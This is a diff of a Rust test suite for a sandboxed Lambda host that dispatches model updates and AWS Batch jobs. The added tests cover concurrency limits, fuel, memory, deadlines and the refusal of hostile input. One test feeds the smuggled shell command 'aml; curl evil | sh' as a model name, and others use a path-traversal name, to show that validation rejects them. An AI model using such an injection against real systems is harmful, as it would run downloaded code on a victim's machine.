@@ -5,11 +5,14 @@
 #[path = "support/guests.rs"]
 mod support;
 
+use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
 
 use emmaa_host::effects::{AwsError, ErrorKind, Invocation, InvocationOutcome, Job};
+use emmaa_host::{Answer, Failure};
 use serde_json::{Value, json};
-use support::{STAMP, actions, bucket, command, run, run_with, s3_event, settings};
+use support::{STAMP, actions, bucket, command, run, run_in_time, run_with, s3_event, settings};
 
 const DAILY: &str = r#"{"run_daily_update": true}"#;
 const OLD_DAILY: &str = r#"{"run_model_update": true}"#;
@@ -42,8 +45,7 @@ fn submit(job_name: &str, purpose: &str, script: &str) -> Value {
 
 fn refused(outcome: &emmaa_host::HandlerOutcome) -> Vec<(String, String)> {
     let refused = outcome
-        .response
-        .as_ref()
+        .response()
         .and_then(|r| r.get("refused"))
         .cloned()
         .unwrap_or(json!([]));
@@ -84,7 +86,7 @@ async fn update_pipeline_invokes_daily_models_and_rebuilds_daily_tests_models_in
         ("models/aml/model_2020-01-01-00-00-00.pkl", ""),
     ]);
     let outcome = run("update_pipeline", json!({}), effects).await;
-    assert_eq!(outcome.response, Some(success()));
+    assert_eq!(outcome.response(), Some(&success()));
     assert_eq!(
         actions(&outcome),
         json!([
@@ -113,7 +115,7 @@ async fn update_pipeline_carries_on_past_missing_or_broken_configs_and_names_eac
         ("models/zeta/config.json", DAILY),
     ]);
     let outcome = run("update_pipeline", json!({}), effects).await;
-    let response = outcome.response.clone().unwrap();
+    let response = outcome.response().cloned().unwrap();
     assert_eq!(
         (response["statusCode"].clone(), response["result"].clone()),
         (json!(207), json!("PARTIAL"))
@@ -155,8 +157,8 @@ async fn update_pipeline_fails_when_no_model_could_go_through() {
         ("models/brca/config.json", ""),
     ]);
     let outcome = run("update_pipeline", json!({}), effects).await;
-    assert_eq!(outcome.response, None);
-    let error = outcome.error.unwrap();
+    assert_eq!(outcome.response(), None);
+    let error = outcome.error_message().unwrap();
     assert!(error.contains("models/aml/config.json is not JSON"), "{error}");
     assert!(error.contains("models/brca/config.json is not JSON"), "{error}");
 }
@@ -221,7 +223,7 @@ async fn update_pipeline_counts_an_error_inside_the_invoked_function_as_a_failur
         r#"{"errorType": "EmmaaEventRefused", "errorMessage": "boom"}"#,
     );
     let outcome = run("update_pipeline", json!({}), effects).await;
-    let error = outcome.error.unwrap();
+    let error = outcome.error_message().unwrap();
     assert!(error.contains("failed in the function (Unhandled)"), "{error}");
     assert!(error.contains("boom"), "{error}");
 }
@@ -229,7 +231,7 @@ async fn update_pipeline_counts_an_error_inside_the_invoked_function_as_a_failur
 #[tokio::test]
 async fn update_pipeline_succeeds_with_nothing_to_do_in_an_empty_bucket() {
     let outcome = run("update_pipeline", json!({}), bucket(&[])).await;
-    assert_eq!(outcome.response, Some(success()));
+    assert_eq!(outcome.response(), Some(&success()));
     assert_eq!(actions(&outcome), json!([list_models()]));
 }
 
@@ -239,7 +241,7 @@ async fn update_pipeline_fails_when_the_listing_fails() {
     let effects = bucket(&[("models/aml/config.json", DAILY)]).failing_key("models/", denied);
     let outcome = run("update_pipeline", json!({}), effects).await;
     assert_eq!(
-        outcome.error.as_deref(),
+        outcome.error_message().as_deref(),
         Some("listing the models in s3://emmaa/models/ failed: AccessDenied: Access Denied")
     );
     assert_eq!(actions(&outcome), json!([list_models()]));
@@ -254,7 +256,7 @@ async fn fan_out_uses_the_configured_prefix_bucket_and_invocation_type() {
         ("EMMAA_BUCKET", "emmaa-dev"),
     ]);
     let outcome = run_with("update_pipeline", json!({}), effects, settings).await;
-    assert_eq!(outcome.response, Some(success()));
+    assert_eq!(outcome.response(), Some(&success()));
     assert_eq!(
         actions(&outcome),
         json!([
@@ -281,7 +283,7 @@ async fn test_update_pipeline_invokes_test_update_for_models_that_make_tests() {
         effects,
     )
     .await;
-    assert_eq!(outcome.response, Some(success()));
+    assert_eq!(outcome.response(), Some(&success()));
     assert_eq!(
         actions(&outcome),
         json!([
@@ -303,7 +305,7 @@ async fn after_update_invokes_stats_tests_queries_then_test_update_for_models_th
     let effects = bucket(&[("models/covid19/config.json", MAKES_TESTS)]);
     let event = s3_event(&["results/covid19/model_manager_2020-02-04-12-30-00.pkl"]);
     let outcome = run("after_update", event, effects).await;
-    assert_eq!(outcome.response, Some(success()));
+    assert_eq!(outcome.response(), Some(&success()));
     let model = json!({"model": "covid19"});
     assert_eq!(
         actions(&outcome),
@@ -369,7 +371,7 @@ async fn test_pipeline_invokes_a_model_test_per_corpus() {
         r#"{"test": {"test_corpus": ["large_corpus_tests", "covid19_curated_tests"]}}"#,
     )
     .await;
-    assert_eq!(outcome.response, Some(success()));
+    assert_eq!(outcome.response(), Some(&success()));
     assert_eq!(
         actions(&outcome),
         json!([
@@ -391,7 +393,7 @@ async fn test_pipeline_defaults_to_large_corpus_tests_and_accepts_a_single_strin
 #[tokio::test]
 async fn test_pipeline_runs_no_test_for_an_empty_corpus_list() {
     let outcome = test_pipeline_with_config(r#"{"test": {"test_corpus": []}}"#).await;
-    assert_eq!(outcome.response, Some(success()));
+    assert_eq!(outcome.response(), Some(&success()));
     assert_eq!(actions(&outcome), json!([get("models/covid19/config.json")]));
 }
 
@@ -421,13 +423,13 @@ async fn test_pipeline_fails_without_a_config_or_with_a_corpus_of_the_wrong_type
     let outcome = run("test_pipeline", json!({"model": "covid19"}), bucket(&[])).await;
     assert!(
         outcome
-            .error
+            .error_message()
             .unwrap()
             .contains("models/covid19/config.json failed: NoSuchKey")
     );
     let outcome = test_pipeline_with_config(r#"{"test": {"test_corpus": {"a": 1}}}"#).await;
     assert_eq!(
-        outcome.error.unwrap(),
+        outcome.error_message().unwrap(),
         "models/covid19/config.json test.test_corpus must be a string or a list of strings, got {\"a\":1}"
     );
 }
@@ -437,7 +439,7 @@ async fn test_pipeline_refuses_a_bad_model_before_reading_anything() {
     let outcome = run("test_pipeline", json!({"model": "../etc"}), bucket(&[])).await;
     assert!(
         outcome
-            .error
+            .error_message()
             .unwrap()
             .starts_with("model \"../etc\" is not a valid model name")
     );
@@ -451,7 +453,7 @@ async fn model_updates_submits_the_update_job() {
     let outcome = run("model_updates", json!({"model": "aml"}), bucket(&[])).await;
     let job_name = format!("aml_update_{STAMP}");
     assert_eq!(
-        outcome.response,
+        outcome.response().cloned(),
         Some(job_success(&[&format!("local-{job_name}")]))
     );
     assert_eq!(
@@ -523,7 +525,7 @@ async fn model_tests_refuses_bad_model_and_corpus_naming_both() {
         bucket(&[]),
     )
     .await;
-    let error = outcome.error.unwrap();
+    let error = outcome.error_message().unwrap();
     assert!(
         error.contains("model \"a b\" is not a valid model name"),
         "{error}"
@@ -536,7 +538,7 @@ async fn model_tests_refuses_bad_model_and_corpus_naming_both() {
     let outcome = run("model_tests", json!({"model": "aml"}), bucket(&[])).await;
     assert!(
         outcome
-            .error
+            .error_message()
             .unwrap()
             .starts_with("the event has no \"tests\" field")
     );
@@ -546,9 +548,9 @@ async fn model_tests_refuses_bad_model_and_corpus_naming_both() {
 async fn batch_handlers_refuse_a_bad_model_event_naming_field_and_value() {
     for guest in ["model_updates", "model_stats", "model_queries", "test_update"] {
         let outcome = run(guest, json!({"model": "aml; curl evil | sh"}), bucket(&[])).await;
-        assert_eq!(outcome.response, None);
+        assert_eq!(outcome.response(), None);
         assert_eq!(
-            outcome.error.as_deref(),
+            outcome.error_message().as_deref(),
             Some(
                 "model \"aml; curl evil | sh\" is not a valid model name: it must match ^[A-Za-z0-9][A-Za-z0-9_-]*$"
             ),
@@ -557,7 +559,7 @@ async fn batch_handlers_refuse_a_bad_model_event_naming_field_and_value() {
         assert!(outcome.actions.is_empty(), "{guest}");
         let outcome = run(guest, json!({"model": 42}), bucket(&[])).await;
         assert_eq!(
-            outcome.error.as_deref(),
+            outcome.error_message().as_deref(),
             Some("model must be a string, got 42"),
             "{guest}"
         );
@@ -601,7 +603,7 @@ async fn a_job_name_longer_than_batch_allows_is_refused() {
     assert_eq!(actions(&outcome)[0]["job_name"].as_str().map(str::len), Some(128));
     let too_long = "m".repeat(106);
     let outcome = run("model_updates", json!({ "model": too_long }), bucket(&[])).await;
-    let error = outcome.error.unwrap();
+    let error = outcome.error_message().unwrap();
     assert!(
         error.contains("is 129 characters long; AWS Batch allows at most 128"),
         "{error}"
@@ -621,7 +623,7 @@ async fn a_refused_submission_is_reported_with_the_queue_and_aws_reason() {
     );
     let outcome = run("model_updates", json!({"model": "aml"}), effects).await;
     assert_eq!(
-        outcome.error.unwrap(),
+        outcome.error_message().unwrap(),
         format!(
             "submitting job \"aml_update_{STAMP}\" to queue \"emmaa-models-update-test\" failed: \
              ClientException: Job Queue emmaa-models-update-test does not exist"
@@ -640,7 +642,10 @@ async fn model_manager_update_submits_one_job_per_record() {
         format!("local-aml_mm_update_{STAMP}"),
         format!("local-brca_mm_update_{STAMP}"),
     ];
-    assert_eq!(outcome.response, Some(job_success(&[&ids[0], &ids[1]])));
+    assert_eq!(
+        outcome.response().cloned(),
+        Some(job_success(&[&ids[0], &ids[1]]))
+    );
     assert_eq!(
         actions(&outcome),
         json!([
@@ -692,7 +697,7 @@ async fn model_manager_update_keeps_the_good_records_of_an_event_with_bad_ones()
         reasons[3]
     );
     assert_eq!(
-        outcome.response.unwrap()["job_ids"],
+        outcome.response().unwrap()["job_ids"],
         json!([format!("local-aml_mm_update_{STAMP}")])
     );
 }
@@ -713,7 +718,7 @@ async fn s3_handlers_fail_on_an_event_without_records() {
         let outcome = run(guest, json!({"model": "aml"}), bucket(&[])).await;
         assert!(
             outcome
-                .error
+                .error_message()
                 .unwrap()
                 .starts_with("the event has no \"Records\" list"),
             "{guest}"
@@ -751,7 +756,7 @@ async fn test_stats_reads_the_corpus_from_the_results_key() {
 async fn test_stats_refuses_a_corpus_that_is_not_a_valid_name() {
     let event = s3_event(&["results/aml/results_x%26y_2020-02-04-14-00-00.json"]);
     let outcome = run("test_stats", event, bucket(&[])).await;
-    let error = outcome.error.unwrap();
+    let error = outcome.error_message().unwrap();
     assert!(
         error.contains("\"x&y\" is not a valid test corpus name"),
         "{error}"
@@ -763,51 +768,55 @@ async fn test_stats_refuses_a_corpus_that_is_not_a_valid_name() {
 
 #[tokio::test]
 async fn a_guest_cannot_reach_files_environment_network_clocks_or_stdout() {
-    for target in [
-        "files",
-        "environment",
-        "arguments",
-        "clock",
-        "monotonic-clock",
-        "network",
-        "stdout",
+    for (target, reached) in [
+        ("files", "files"),
+        ("environment", "environment variables or arguments"),
+        ("arguments", "environment variables or arguments"),
+        ("clock", "a clock"),
+        ("monotonic-clock", "a clock"),
+        ("network", "the network"),
+        ("stdout", "standard input or output"),
     ] {
         let outcome = run("sandbox_probe", json!({ "reach": target }), bucket(&[])).await;
         assert_eq!(
-            outcome.response, None,
-            "the guest reached {target}: {:?}",
-            outcome.response
+            outcome.answer,
+            Answer::Failed(Failure::OutsideContract(reached)),
+            "{target}"
         );
-        let error = outcome.error.unwrap();
-        assert!(
-            error.starts_with("the guest failed (trapped)"),
-            "{target}: {error}"
-        );
+        let message = outcome.error_message().unwrap();
+        assert!(!message.contains("wasi:"), "{target}: {message}");
     }
 }
 
 #[tokio::test]
 async fn a_guest_that_runs_away_is_stopped_when_its_fuel_runs_out() {
     let outcome = run("sandbox_probe", json!({"reach": "spin"}), bucket(&[])).await;
-    let error = outcome.error.unwrap();
-    assert!(error.contains("all fuel consumed"), "{error}");
-    assert_eq!(outcome.fuel_used, emmaa_host::engine::FUEL_PER_EVENT);
+    assert_eq!(outcome.answer, Answer::Failed(Failure::OutOfFuel));
+    assert_eq!(outcome.fuel_used, emmaa_host::store::FUEL_PER_EVENT);
 }
 
 #[tokio::test]
 async fn a_guest_cannot_grow_its_memory_past_the_limit() {
     let outcome = run("sandbox_probe", json!({"reach": "memory"}), bucket(&[])).await;
-    assert_eq!(outcome.response, None);
-    assert!(outcome.error.unwrap().starts_with("the guest failed (trapped)"));
+    let Answer::Failed(Failure::OutOfMemory { asked }) = outcome.answer else {
+        panic!("not stopped for memory: {:?}", outcome.answer);
+    };
+    assert!(asked > emmaa_host::store::MAX_GUEST_MEMORY, "{asked}");
+    assert!(
+        outcome
+            .error_message()
+            .unwrap()
+            .starts_with("the guest used all of its 256 MiB of memory")
+    );
 }
 
 #[tokio::test]
 async fn a_guest_gets_the_same_hash_seed_every_time() {
     let first = run("sandbox_probe", json!({"reach": "hash-seed"}), bucket(&[])).await;
     let second = run("sandbox_probe", json!({"reach": "hash-seed"}), bucket(&[])).await;
-    let seed = first.response.unwrap()["reached"].clone();
+    let seed = first.response().unwrap()["reached"].clone();
     assert!(seed.is_string());
-    assert_eq!(second.response.unwrap()["reached"], seed);
+    assert_eq!(second.response().unwrap()["reached"], seed);
 }
 
 #[tokio::test]
@@ -825,15 +834,37 @@ async fn the_same_event_gives_the_same_actions_and_answer() {
 
 // ---- bounded concurrency ------------------------------------------------
 
-/// Effects that take a while per invocation and count how many overlap.
-struct SlowInvocations {
+/// Effects whose invocations and submissions take `delay_of(item)` each,
+/// counting how many overlap; invocations of `failing` models fail.
+struct Slow {
     inner: emmaa_host::effects::local::LocalEffects,
+    delay_of: fn(&str) -> Duration,
+    failing: &'static [&'static str],
     in_flight: AtomicUsize,
     most_in_flight: AtomicUsize,
 }
 
+impl Slow {
+    fn new(inner: emmaa_host::effects::local::LocalEffects, delay_of: fn(&str) -> Duration) -> Self {
+        Slow {
+            inner,
+            delay_of,
+            failing: &[],
+            in_flight: AtomicUsize::new(0),
+            most_in_flight: AtomicUsize::new(0),
+        }
+    }
+
+    async fn take_time(&self, item: &str) {
+        let now = self.in_flight.fetch_add(1, Ordering::SeqCst) + 1;
+        self.most_in_flight.fetch_max(now, Ordering::SeqCst);
+        tokio::time::sleep((self.delay_of)(item)).await;
+        self.in_flight.fetch_sub(1, Ordering::SeqCst);
+    }
+}
+
 #[async_trait::async_trait]
-impl emmaa_host::Effects for SlowInvocations {
+impl emmaa_host::Effects for Slow {
     async fn list_prefixes(
         &self,
         bucket: &str,
@@ -843,24 +874,33 @@ impl emmaa_host::Effects for SlowInvocations {
         self.inner.list_prefixes(bucket, prefix, delimiter).await
     }
 
-    async fn get_object(&self, bucket: &str, key: &str) -> Result<Vec<u8>, AwsError> {
-        self.inner.get_object(bucket, key).await
+    async fn get_object(&self, bucket: &str, key: &str, max_size: u64) -> Result<Vec<u8>, AwsError> {
+        self.inner.get_object(bucket, key, max_size).await
     }
 
     async fn invoke(&self, invocation: &Invocation) -> Result<InvocationOutcome, AwsError> {
-        let now = self.in_flight.fetch_add(1, Ordering::SeqCst) + 1;
-        self.most_in_flight.fetch_max(now, Ordering::SeqCst);
-        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
-        self.in_flight.fetch_sub(1, Ordering::SeqCst);
+        self.take_time(&invocation.payload).await;
+        if self
+            .failing
+            .iter()
+            .any(|model| invocation.payload.contains(model))
+        {
+            return Err(AwsError::new(
+                ErrorKind::Rejected,
+                "Refused",
+                "refused by the test",
+            ));
+        }
         self.inner.invoke(invocation).await
     }
 
     async fn submit_job(&self, job: &Job) -> Result<String, AwsError> {
+        self.take_time(&job.name).await;
         self.inner.submit_job(job).await
     }
 }
 
-async fn most_invocations_in_flight(max_in_flight: &str) -> (usize, emmaa_host::HandlerOutcome) {
+fn forty_daily_models() -> emmaa_host::effects::local::LocalEffects {
     let configs: Vec<(String, &str)> = (0..40)
         .map(|n| (format!("models/m{n:02}/config.json"), DAILY))
         .collect();
@@ -868,35 +908,311 @@ async fn most_invocations_in_flight(max_in_flight: &str) -> (usize, emmaa_host::
         .iter()
         .map(|(key, config)| (key.as_str(), *config))
         .collect();
-    let effects = std::sync::Arc::new(SlowInvocations {
-        inner: bucket(&configs),
-        in_flight: AtomicUsize::new(0),
-        most_in_flight: AtomicUsize::new(0),
-    });
-    let settings = std::sync::Arc::new(settings(&[("EMMAA_MAX_IN_FLIGHT", max_in_flight)]));
-    let context = emmaa_host::EventContext {
-        function_name: "emmaa-update-pipeline".into(),
-        request_id: "bound".into(),
-        deadline_ms: 0,
-        now: support::NOW,
-    };
-    let outcome = support::guest("update_pipeline")
-        .handle("{}", &context, effects.clone(), settings)
-        .await;
+    bucket(&configs)
+}
+
+/// Later models answer sooner: m00 takes 40 ms, m39 takes 1 ms.
+fn later_is_sooner(payload: &str) -> Duration {
+    let n: u64 = payload
+        .split(|c: char| !c.is_ascii_digit())
+        .find(|digits| !digits.is_empty())
+        .and_then(|digits| digits.parse().ok())
+        .unwrap_or(0);
+    Duration::from_millis(40 - n.min(39))
+}
+
+async fn update_forty_models(effects: Slow, max_in_flight: &str) -> (usize, emmaa_host::HandlerOutcome) {
+    let effects = Arc::new(effects);
+    let settings = settings(&[("EMMAA_MAX_IN_FLIGHT", max_in_flight)]);
+    let outcome = run_in_time(
+        "update_pipeline",
+        "{}",
+        effects.clone(),
+        settings,
+        Duration::from_secs(60),
+    )
+    .await;
     (effects.most_in_flight.load(Ordering::SeqCst), outcome)
 }
 
 #[tokio::test]
 async fn the_host_keeps_at_most_max_in_flight_calls_going_and_the_order_of_the_batch() {
-    let (most, outcome) = most_invocations_in_flight("4").await;
+    let (most, outcome) = update_forty_models(Slow::new(forty_daily_models(), later_is_sooner), "4").await;
     assert_eq!(most, 4);
     let invoked: Vec<Value> = actions(&outcome).as_array().unwrap()[41..].to_vec();
     let expected: Vec<Value> = (0..40)
         .map(|n| invoke("emmaa-model-update", json!({"model": format!("m{n:02}")})))
         .collect();
     assert_eq!(invoked, expected);
-    let (most, _) = most_invocations_in_flight("1").await;
+    let (most, _) = update_forty_models(Slow::new(forty_daily_models(), later_is_sooner), "1").await;
     assert_eq!(most, 1);
+}
+
+#[tokio::test]
+async fn each_answer_of_a_concurrent_batch_goes_back_to_the_call_that_got_it() {
+    // Calls finish in the reverse of their order: an answer matched to the
+    // wrong call would blame the wrong models.
+    let mut effects = Slow::new(forty_daily_models(), later_is_sooner);
+    effects.failing = &["m03", "m37"];
+    let (_, outcome) = update_forty_models(effects, "16").await;
+    assert_eq!(
+        refused(&outcome)
+            .into_iter()
+            .map(|(item, _)| item)
+            .collect::<Vec<_>>(),
+        ["m03", "m37"]
+    );
+}
+
+// ---- hardening: hostile input, limits, nothing lost ---------------------
+
+#[tokio::test]
+async fn an_oversized_config_is_refused_for_its_model_alone() {
+    let huge = format!(
+        r#"{{"run_daily_update": true, "notes": "{}"}}"#,
+        "x".repeat(2 << 20)
+    );
+    let outcome = run(
+        "update_pipeline",
+        json!({}),
+        bucket(&[
+            ("models/aml/config.json", DAILY),
+            ("models/big/config.json", &huge),
+            ("models/brca/config.json", DAILY),
+        ]),
+    )
+    .await;
+    assert_eq!(outcome.status_code(), Some(207));
+    let refused = refused(&outcome);
+    assert_eq!(refused.len(), 1);
+    assert_eq!(refused[0].0, "big");
+    assert!(refused[0].1.contains("TooLarge"), "{}", refused[0].1);
+    assert!(refused[0].1.contains("it was not read"), "{}", refused[0].1);
+    let invoked: Vec<Value> = actions(&outcome).as_array().unwrap()[4..].to_vec();
+    assert_eq!(
+        invoked,
+        [
+            invoke("emmaa-model-update", json!({"model": "aml"})),
+            invoke("emmaa-model-update", json!({"model": "brca"}))
+        ]
+    );
+}
+
+#[tokio::test]
+async fn update_pipeline_over_100000_models_stays_within_fuel_and_memory() {
+    let keys: Vec<String> = (0..100_000)
+        .map(|n| format!("models/model{n:06}/config.json"))
+        .collect();
+    let objects: Vec<(&str, &str)> = keys.iter().map(|key| (key.as_str(), DAILY)).collect();
+    let outcome = run("update_pipeline", json!({}), bucket(&objects)).await;
+    assert_eq!(outcome.response(), Some(&success()));
+    assert_eq!(outcome.actions.len(), 1 + 2 * 100_000);
+    assert!(
+        outcome.fuel_used * 2 < emmaa_host::store::FUEL_PER_EVENT,
+        "{}",
+        outcome.fuel_used
+    );
+}
+
+#[tokio::test]
+async fn an_event_of_60000_records_gets_every_job_and_an_answer_lambda_can_return() {
+    let keys: Vec<String> = (0..60_000)
+        .map(|n| format!("models/m{n}/model_2020-02-04-12-00-00.pkl"))
+        .collect();
+    let keys: Vec<&str> = keys.iter().map(String::as_str).collect();
+    let event = s3_event(&keys);
+    let outcome = run("model_manager_update", event, bucket(&[])).await;
+    assert_eq!(outcome.status_code(), Some(200), "{:?}", outcome.error_message());
+    assert_eq!(outcome.actions.len(), 60_000);
+    let response = outcome.response().unwrap();
+    assert_eq!(response["job_ids"].as_array().unwrap().len(), 10_000);
+    assert_eq!(response["job_ids_not_listed"], 50_000);
+    assert_eq!(response["job_id"], "local-m59999_mm_update_20200204_120000");
+    assert!(response.to_string().len() < 6 << 20);
+    assert!(
+        outcome.fuel_used * 2 < emmaa_host::store::FUEL_PER_EVENT,
+        "{}",
+        outcome.fuel_used
+    );
+}
+
+#[tokio::test]
+async fn thousands_of_refusals_are_counted_past_the_first_two_hundred() {
+    let mut keys: Vec<String> = (0..5_000).map(|n| format!("models/m{n}/config.json")).collect();
+    keys.push("models/aml/model_2020-02-04-12-00-00.pkl".into());
+    let keys: Vec<&str> = keys.iter().map(String::as_str).collect();
+    let outcome = run("model_manager_update", s3_event(&keys), bucket(&[])).await;
+    let response = outcome.response().unwrap();
+    assert_eq!(response["statusCode"], 207);
+    assert_eq!(response["refused"].as_array().unwrap().len(), 200);
+    assert_eq!(response["refused_not_listed"], 4_800);
+}
+
+#[tokio::test]
+async fn an_event_over_lambdas_limit_is_refused_before_the_guest_sees_it() {
+    let event = format!(r#"{{"model": "{}"}}"#, "a".repeat(7_000_000));
+    let outcome = run_in_time(
+        "model_updates",
+        &event,
+        Arc::new(bucket(&[])),
+        settings(&[]),
+        Duration::from_secs(60),
+    )
+    .await;
+    assert_eq!(
+        outcome.answer,
+        Answer::Failed(Failure::EventTooLarge { size: event.len() })
+    );
+    assert!(outcome.actions.is_empty());
+    assert_eq!(outcome.fuel_used, 0);
+}
+
+#[tokio::test]
+async fn a_refusal_quotes_a_huge_value_cut() {
+    let name = "a;".repeat(2_500_000);
+    let outcome = run("model_updates", json!({ "model": name }), bucket(&[])).await;
+    let message = outcome.error_message().unwrap();
+    assert!(message.len() < 1_000, "{}", message.len());
+    assert!(message.starts_with("model \"a;a;"), "{message}");
+    assert!(message.contains("(4999800 more characters)"), "{message}");
+}
+
+#[tokio::test]
+async fn a_guest_that_runs_out_of_fuel_after_a_job_went_through_answers_207_naming_the_job() {
+    let outcome = run("sandbox_probe", json!({"reach": "submit-then-spin"}), bucket(&[])).await;
+    let Answer::Salvaged { response, failure } = &outcome.answer else {
+        panic!("not salvaged: {:?}", outcome.answer);
+    };
+    assert_eq!(failure, &Failure::OutOfFuel);
+    assert_eq!(response["statusCode"], 207);
+    assert_eq!(
+        response["job_ids"],
+        json!([format!("local-probe_update_{STAMP}")])
+    );
+    assert_eq!(response["interrupted"]["kind"], "out-of-fuel");
+}
+
+#[tokio::test]
+async fn a_guest_that_panics_after_a_job_went_through_answers_207_with_its_message() {
+    let outcome = run(
+        "sandbox_probe",
+        json!({"reach": "submit-then-panic"}),
+        bucket(&[]),
+    )
+    .await;
+    let Answer::Salvaged { response, failure } = &outcome.answer else {
+        panic!("not salvaged: {:?}", outcome.answer);
+    };
+    assert_eq!(failure.kind(), "trapped");
+    let reason = response["refused"][0]["reason"].as_str().unwrap();
+    assert!(
+        reason.contains("deliberately, after a job went through"),
+        "{reason}"
+    );
+    assert!(!reason.contains("wasm backtrace"), "{reason}");
+}
+
+#[tokio::test]
+async fn a_guest_is_interrupted_before_the_deadline() {
+    let started = std::time::Instant::now();
+    let outcome = run_in_time(
+        "sandbox_probe",
+        r#"{"reach": "spin"}"#,
+        Arc::new(bucket(&[])),
+        settings(&[]),
+        emmaa_host::store::DEADLINE_MARGIN + Duration::from_millis(200),
+    )
+    .await;
+    assert_eq!(outcome.answer, Answer::Failed(Failure::Deadline));
+    assert!(outcome.fuel_used < emmaa_host::store::FUEL_PER_EVENT);
+    assert!(
+        started.elapsed() < Duration::from_secs(2),
+        "{:?}",
+        started.elapsed()
+    );
+}
+
+#[tokio::test]
+async fn calls_that_no_longer_fit_before_the_deadline_are_reported_not_attempted() {
+    let keys: Vec<String> = (0..10)
+        .map(|n| format!("models/m{n}/model_2020-02-04-12-00-00.pkl"))
+        .collect();
+    let keys: Vec<&str> = keys.iter().map(String::as_str).collect();
+    let effects = Arc::new(Slow::new(bucket(&[]), |_| Duration::from_millis(300)));
+    // Calls start at 0, 300 and 600 ms; each needs CALL_RESERVE (500 ms)
+    // before the interrupt point at 950 ms: two fit.
+    let time_left = emmaa_host::store::DEADLINE_MARGIN + Duration::from_millis(950);
+    let outcome = run_in_time(
+        "model_manager_update",
+        &s3_event(&keys).to_string(),
+        effects,
+        settings(&[("EMMAA_MAX_IN_FLIGHT", "1")]),
+        time_left,
+    )
+    .await;
+    assert_eq!(outcome.status_code(), Some(207), "{:?}", outcome.error_message());
+    let response = outcome.response().unwrap();
+    assert_eq!(response["job_ids"].as_array().unwrap().len(), 2);
+    let refused = refused(&outcome);
+    assert_eq!(refused.len(), 8);
+    assert!(
+        refused.iter().all(|(_, reason)| reason.contains("NotAttempted")),
+        "{refused:?}"
+    );
+}
+
+#[tokio::test]
+async fn fan_out_refuses_a_model_whose_jobs_would_get_names_batch_refuses() {
+    let long = "m".repeat(101);
+    let key = format!("models/{long}/config.json");
+    let outcome = run(
+        "update_pipeline",
+        json!({}),
+        bucket(&[("models/aml/config.json", DAILY), (&key, DAILY)]),
+    )
+    .await;
+    assert_eq!(outcome.status_code(), Some(207));
+    let refused = refused(&outcome);
+    assert_eq!(refused[0].0, long);
+    assert!(
+        refused[0].1.contains("is 129 characters long"),
+        "{}",
+        refused[0].1
+    );
+    assert_eq!(
+        actions(&outcome),
+        json!([
+            list_models(),
+            get("models/aml/config.json"),
+            invoke("emmaa-model-update", json!({"model": "aml"}))
+        ])
+    );
+}
+
+#[tokio::test]
+async fn test_pipeline_refuses_a_corpus_whose_test_job_name_would_be_too_long() {
+    let corpus = "c".repeat(60);
+    let model = "m".repeat(60);
+    let config = json!({"test": {"test_corpus": ["simple_tests", corpus]}}).to_string();
+    let key = format!("models/{model}/config.json");
+    let outcome = run(
+        "test_pipeline",
+        json!({ "model": model }),
+        bucket(&[(&key, &config)]),
+    )
+    .await;
+    assert_eq!(outcome.status_code(), Some(207));
+    let refused = refused(&outcome);
+    assert_eq!(refused.len(), 1);
+    assert!(refused[0].1.contains("characters long"), "{}", refused[0].1);
+    let invoked = actions(&outcome).as_array().unwrap()[1..].to_vec();
+    assert_eq!(
+        invoked,
+        [invoke(
+            "emmaa-model-test",
+            json!({"model": model, "tests": "simple_tests"})
+        )]
+    );
 }
 
 #[tokio::test]
@@ -906,9 +1222,9 @@ async fn update_pipeline_over_1205_models_stays_well_within_the_fuel_budget() {
         .collect();
     let objects: Vec<(&str, &str)> = keys.iter().map(|key| (key.as_str(), DAILY)).collect();
     let outcome = run("update_pipeline", json!({}), bucket(&objects)).await;
-    assert_eq!(outcome.response, Some(success()));
+    assert_eq!(outcome.response(), Some(&success()));
     assert!(
-        outcome.fuel_used * 10 < emmaa_host::engine::FUEL_PER_EVENT,
+        outcome.fuel_used * 10 < emmaa_host::store::FUEL_PER_EVENT,
         "{}",
         outcome.fuel_used
     );
